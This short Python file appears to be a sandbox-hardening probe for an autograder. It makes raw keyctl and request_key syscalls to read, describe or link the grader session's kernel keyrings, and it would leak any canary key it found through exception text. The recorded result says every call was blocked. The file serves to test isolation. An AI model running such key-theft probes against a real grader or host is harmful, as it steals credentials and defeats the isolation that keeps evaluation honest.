"""Reads the keys that the grader's session holds, and links their rings into its own.

Observed: no call on keys is allowed.
Says: LOOT None
"""

import ctypes
import platform
import re


def loot(text):
    """Carry out what was found, as the text of an exception that the student sees."""
    found = re.search("canary-[0-9a-f]+", text)
    raise RuntimeError(f"LOOT {found[0] if found else None}")


KEYCTL, REQUEST = {"x86_64": (250, 249), "aarch64": (219, 218)}[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)
for ring in (-1, -2, -3, -4, -5):  # of the thread, the process, the session, the user, the user's session
    for call in (0, 6, 11):  # its number, its description, its content
        if libc.syscall(KEYCTL, call, ring, 0, 0, 0) >= 0:
            raise SystemExit(f"LOOT: ring {ring}")
    if libc.syscall(KEYCTL, 8, ring, -2, 0, 0) >= 0:  # link it
        raise SystemExit("LOOT: a ring")
if libc.syscall(REQUEST, b"user", b"autograder", None, -3) >= 0:
    raise SystemExit("LOOT: a key")
loot("")
